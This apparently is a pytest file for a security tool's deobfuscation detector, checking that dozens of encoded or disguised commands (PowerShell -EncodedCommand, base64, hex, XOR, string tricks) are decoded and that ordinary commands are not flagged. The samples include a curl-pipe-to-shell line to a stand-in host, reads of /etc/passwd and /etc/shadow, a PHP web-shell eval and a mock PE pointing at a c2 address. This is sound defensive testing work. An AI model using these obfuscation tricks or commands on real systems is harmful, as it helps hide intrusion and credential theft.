"""Every technique on a small example: what is hidden must come out, and how must be said."""

from __future__ import annotations

import gzip

import pytest

from cybersecqwen.detect.decode import decode
from cybersecqwen.records import Limits

from .encoders import COMMAND, b64, b64_bytes, b64_utf16, deflated

LIMITS = Limits()
PE = (
    b"MZ"
    + bytes(58)
    + (64).to_bytes(4, "little")
    + b"PE\0\0"
    + bytes(40)
    + b"http://c2.example/x"
    + bytes(40)
)

CASES = {
    "option-short": (f"powershell -e {b64_utf16(COMMAND)}", COMMAND, "-EncodedCommand base64 > utf-16"),
    "option-alias": (f"powershell -ec {b64_utf16('dir')}", "dir", "-EncodedCommand base64 > utf-16"),
    "option-long": (f"pwsh -EnCoDeDcOmMaNd {b64_utf16(COMMAND)}", COMMAND, "-EncodedCommand"),
    "option-slash": (f"powershell.exe /eNCo {b64_utf16(COMMAND)}", COMMAND, "-EncodedCommand"),
    "option-dash": (f"powershell –enc {b64_utf16(COMMAND)}", COMMAND, "-EncodedCommand"),
    "option-quoted": (f'powershell "-enc" "{b64_utf16(COMMAND)}"', COMMAND, "-EncodedCommand"),
    "option-renamed-program": (f"C:\\Users\\a\\x.exe -w 1 -enc {b64_utf16(COMMAND)}", COMMAND, "utf-16"),
    "option-cut-off": (f"powershell -enc {b64_utf16(COMMAND)[:-5]}", COMMAND[:-2], "utf-16"),
    "option-caret": (f"p^owershell -^e^n^c {b64_utf16(COMMAND)}", COMMAND, "base64 > utf-16"),
    "option-cyrillic": (f"powershell -enc {b64_utf16('Write-Host привет')}", "Write-Host привет", "utf-16"),
    "call": (f"[Convert]::FromBase64String('{b64(COMMAND)}')", COMMAND, "base64"),
    "call-short": (f"[Convert]::FromBase64String('{b64('calc')}')", "calc", "base64"),
    "call-odd-case": (f'[conVERT]::FRomBAsE64STRING( "{b64(COMMAND)}" )', COMMAND, "base64"),
    "call-javascript": (f"eval(atob('{b64('alert(1)')}'))", "alert(1)", "base64"),
    "call-python": (f"exec(base64.b64decode(b'{b64('import os')}'))", "import os", "base64"),
    "call-php": (f"eval(base64_decode('{b64('system($_GET[0]);')}'))", "system($_GET[0]);", "base64"),
    "bare": (f"rundll32 a.dll,Start {b64(COMMAND)}", COMMAND, "base64"),
    "bare-in-url": (f"GET /api/{b64(COMMAND)}/x", COMMAND, "base64"),
    "pipe": (f"echo {b64('id; uname -a')} | base64 -d | sh", "id; uname -a", "base64"),
    "here-string": (f"base64 -d <<< {b64('id; uname -a')} | sh", "id; uname -a", "base64"),
    "gzip": (f"FromBase64String('{b64_bytes(gzip.compress(COMMAND.encode()))}')", COMMAND, "base64 > gzip"),
    "gzip-bare": (f"x {b64_bytes(gzip.compress(COMMAND.encode()))}", COMMAND, "base64 > gzip"),
    "deflate": (
        f"IO.Compression.DeflateStream([Convert]::FromBase64String('{b64_bytes(deflated(COMMAND))}'))",
        COMMAND,
        "base64 > deflate",
    ),
    "pem": (
        "certutil -decode\n-----BEGIN CERTIFICATE-----\n"
        + "\n".join(b64_bytes(PE)[i : i + 64] for i in range(0, 400, 64))
        + "\n-----END CERTIFICATE-----",
        "http://c2.example/x",
        "base64 > PE file",
    ),
    "shellcode": (
        f"FromBase64String('{b64_bytes(bytes.fromhex('fc4883e4f0e8') + PE)}')",
        "http://c2",
        "shellcode",
    ),
    "hex-pipe": ("echo 77686f616d69 | xxd -r -p | sh", "whoami", "hex"),
    "hex-bare": (f"x.exe {COMMAND.encode().hex()}", COMMAND, "hex"),
    "hex-escapes": ("python -c \"exec('\\x69\\x6d\\x70\\x6f\\x72\\x74')\"", "import", "character escapes"),
    "unicode-escapes": ("eval('\\u0061\\u006c\\u0065\\u0072\\u0074')", "eval('alert')", "character escapes"),
    "octal": ("printf '\\151\\144\\040\\055\\141' | sh", "id -a", "character escapes"),
    "ansi-c": ("bash -c $'\\x77\\x68\\x6f\\x61\\x6d\\x69'", "bash -c whoami", "ansi-c quotes"),
    "char-casts": ("([char]73+[char]69+[char]0x58) 'x'", "'IEX' 'x'", "char codes"),
    "char-array": ("-join ([char[]](73,69,88,32,99))", "'IEX c'", "char codes"),
    "char-loop": ("(73,69,88,32,99 | %{[char]$_}) -join ''", "'IEX c'", "char codes"),
    "char-split": ("'49z45z58z20z63'.split('z')|%{[char][convert]::toint16($_,16)}", "IEX c", "char codes"),
    "char-separators": (
        "-join('73_69_88_32_99' -split '_' | foreach {[char][int]$_})",
        "'IEX c'",
        "char codes",
    ),
    "byte-array": ("[byte[]](0x49,0x45,0x58,0x20,0x63,0x61,0x6c,0x63)", "IEX calc", "char codes"),
    "javascript": ("eval(String.fromCharCode(97,108,101,114,116))", "eval('alert')", "char codes"),
    "unescape": ("eval(unescape('%61%6c%65%72%74%28%31%29'))", "alert(1)", "url"),
    "unescape-wide": ("unescape('%u0061%u006c%u0065%u0072%u0074')", "alert", "url"),
    "vbscript": ('Execute Chr(77) & Chr(115) & "gBox"', "'MsgBox'", "char codes, concatenation"),
    "vbscript-reverse": ('Execute StrReverse("xoBgsM")', "'MsgBox'", "reverse"),
    "concatenation": ("&('Inv'+'oke-Exp'+'ression') 'x'", "Invoke-Expression 'x'", "concatenation"),
    "concatenation-nested": ("iex ((('ca'+'l')+('c')))", "calc", "concatenation"),
    "format": ("&('{1}{0}' -f 'ex','i') 'calc'", "iex 'calc'", "format operator"),
    "format-quoted-twice": (
        'powershell -c "IEX ((\\"{1}{0}\\" -f \\"lc\\",\\"ca\\"))"',
        "IEX ('calc')",
        "format",
    ),
    "replace-method": ("IEX ('cXYc.exe'.Replace('XY','al'))", "calc.exe", "replace"),
    "replace-operator": ("IEX ('caXlXc' -creplace 'X','')", "calc", "replace"),
    "replace-char": ("'cQalcQ'.Replace(([char]81),'')", "'calc'", "replace"),
    "reverse-index": ("IEX (-join ('exe.clac'[-1..-8]))", "calc.exe", "reverse"),
    "reverse-length": ("-join ('exe.clac'[-1..-('exe.clac'.Length)])", "calc.exe", "reverse"),
    "reverse-regex": ("-join ([regex]::Matches('clac','.','RightToLeft')|%{$_.value})", "calc", "reverse"),
    "reverse-javascript": ("eval('clac'.split('').reverse().join(''))", "calc", "reverse"),
    "reverse-shell": ("echo 'hs/nib/' | rev | bash", "/bin/sh", "reverse"),
    "rot13": ("echo 'jubnzv' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | sh", "whoami", "rot13"),
    "index-comspec": ("$env:ComSpec[4,24,25]-join'' ; foo", "'iex'", "index, join"),
    "index-pshome": ("& ($pshome[4]+$pshome[30]+'x') 'foo'", "iex 'foo'", "index, concatenation"),
    "xor-literal": (
        f"FromBase64String('{b64_bytes(bytes(b ^ 0x35 for b in COMMAND.encode()))}')|%{{$_ -bxor 0x35}}",
        COMMAND,
        "base64 > xor 0x35",
    ),
    "xor-variable": (
        f"$k=53;$x=FromBase64String('{b64_bytes(bytes(b ^ 53 for b in COMMAND.encode()))}');$x -bxor $k",
        COMMAND,
        "xor 0x35",
    ),
    "variables": ("$x='I';$y='EX'; &($x+$y) 'foo'", "IEX 'foo'", "concatenation"),
    "variables-base64": (f"$b='{b64(COMMAND)}';[Convert]::FromBase64String($b)", COMMAND, "base64"),
    "ticks": ("i`e`x (Ne`w-Object Net.WebClient)", "iex (New-Object Net.WebClient)", "tick escapes"),
    "carets": ("c^m^d.exe /c p^owe^rshell", "cmd.exe /c powershell", "caret escapes"),
    "cmd-slices": ("%COMSPEC:~0,1%md /c %PUBLIC:~-1%alc", "Cmd /c calc", "environment variable slices"),
    "cmd-set": ('cmd /c "set x=cal&& call %x%c.exe"', "call calc.exe", "variables"),
    "cmd-delayed": (
        'cmd /V:ON /c "set a=pow&&set b=ershell&&!a!!b! -c whoami"',
        "powershell -c whoami",
        "variables",
    ),
    "cmd-replace": ('cmd /c "set z=wXhoXami&&call %z:X=%"', "call whoami", "slices"),
    "cmd-quotes": ('po"wer"sh"ell" -c whoami', "powershell", "quotes inside words"),
    "inner": ('powershell "IEX (""cal""+""c"")"', 'IEX ("cal"+"c")', "inner command"),
    "inner-bash": ("bash -c 'curl http://x.example/a | sh'", "curl http://x.example/a | sh", "inner command"),
    "inner-script": ("mshta javascript:eval('a'+'b')", "eval('a'+'b')", "inner command"),
    "inner-doubled": ("iex 'Write-Host ''hello'' ; calc'", "Write-Host 'hello' ; calc", "inner command"),
    "ifs": ("bash -c cat${IFS}/etc/passwd", "cat /etc/passwd", "$IFS"),
    "shell-variables": ("bash -c 'a=cu;b=rl;$a$b http://x.example/'", "curl http://x.example/", "variables"),
    "shell-quotes": ("w'h'o'a'mi; /bin/sh", "whoami", "quotes inside words"),
    "shell-backslash": ("/bin/sh -c w\\h\\o\\ami", "whoami", "quotes inside words"),
    "shell-braces": ("sh -c {cat,/etc/shadow}", "cat /etc/shadow", "braces"),
    "html": ("<Arguments>-c &quot;iex &#x27;calc&#x27;&quot;</Arguments>", "-c \"iex 'calc'\"", "html"),
}


@pytest.mark.parametrize(("text", "hidden", "how"), CASES.values(), ids=CASES)
def test_hidden_text_comes_out(text: str, hidden: str, how: str) -> None:
    layers = decode(text, LIMITS)
    assert any(hidden in layer.text and how in layer.how for layer in layers), layers
    for layer in layers:
        parent = text if layer.parent < 0 else layers[layer.parent].text
        assert 0 <= layer.start <= layer.end <= len(parent)


@pytest.mark.parametrize("length", range(1, 15))
def test_every_prefix_of_the_option_is_taken(length: int) -> None:
    name = "EncodedCommand"[:length]
    (layer, *_) = decode(f"powershell -{name} {b64_utf16(COMMAND)}", LIMITS)
    assert layer.text == COMMAND


ORDINARY = (
    "",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    '"C:\\Program Files (x86)\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle='
    "1684,8217263540263512042,1234567890123456789,131072 --lang=en-US /prefetch:1",
    "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding",
    "rundll32.exe AppXDeploymentExtensions.OneCore.dll,ShellRefresh",
    "reg query HKLM\\SOFTWARE\\Microsoft\\WindowsNT\\CurrentVersion\\ProfileList /s",
    "msiexec /i {4A03706F-666A-4037-7777-5F2748764D10} /qn REBOOT=ReallySuppress",
    "git show HEAD^ && git diff 9fceb02d0ae598e95dc970b74767f19372d61af8",
    "sha256sum e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
    "/usr/lib/x86_64-linux-gnu/gstreamer1.0/gstreamer-1.0/gst-plugin-scanner -l /usr/lib/x86_64-linux-gnu",
    "grep -e AAAABBBB /var/log/syslog",
    "tar -e --exclude-vcs -czf backup.tgz /srv/application/releases/current",
    "ping -n 1 10.0.0.1 && echo %DATE% %CD% %USERNAME%",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\Get-Inventory.ps1 -Ports 22,80,443,8080",
    "ssh-keygen -lf AAAAB3NzaC1yc2EAAAADAQABAAABgQDQ7w3v5q8",
    "Nullable`1[[System.Boolean, mscorlib, Version=4.0.0.0, PublicKeyToken=b77a5c561934e089]]",
    "The service doesn't start: see Client SKU's manual on PowerShell's site.",
    'C:\\app\\tool.exe --json {"id":"6f9619ff-8b86-d011-b42d-00cf4fc964ff","n":12}',
)


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_commands_hide_nothing(text: str) -> None:
    assert decode(text, LIMITS) == ()


def test_depth_bounds_encodings_inside_encodings() -> None:
    text = COMMAND
    for _ in range(6):
        text = f"FromBase64String('{b64(text)}')"
    depths = [layer.depth for layer in decode(text, Limits(depth=3))]
    assert max(depths) == 3
    assert any(layer.text == COMMAND for layer in decode(text, Limits(depth=6)))
    assert decode(text, Limits(depth=0)) == ()


def test_how_names_the_whole_chain_and_parent_the_layer_above() -> None:
    inner = f"iex ([Convert]::FromBase64String('{b64(COMMAND)}'))"
    text = f"powershell -enc {b64_utf16(inner)}"
    first, second = decode(text, LIMITS)
    assert (first.how, first.parent, first.depth) == ("-EncodedCommand base64 > utf-16", -1, 1)
    assert (second.how, second.parent, second.depth) == ("-EncodedCommand base64 > utf-16 > base64", 0, 2)
    assert text[first.start : first.end] == b64_utf16(inner)
    assert first.text[second.start : second.end] == b64(COMMAND)


def test_a_bomb_is_stopped_at_the_bound() -> None:
    bomb = b64_bytes(gzip.compress(b"A1 " * (8 << 20)))
    layers = decode(f"FromBase64String('{bomb}')", Limits(decode_bytes=4_096))
    assert sum(len(layer.text) for layer in layers) <= 4_096


def test_cut_off_gzip_gives_what_can_be_read() -> None:
    long = " ".join(f"Write-Host {n}" for n in range(200))
    cut = b64_bytes(gzip.compress(long.encode()))[:-200]
    (layer,) = [one for one in decode(f"FromBase64String('{cut}')", LIMITS) if "gzip" in one.how][:1]
    assert long.startswith(layer.text[:100])
    assert len(layer.text) >= 100
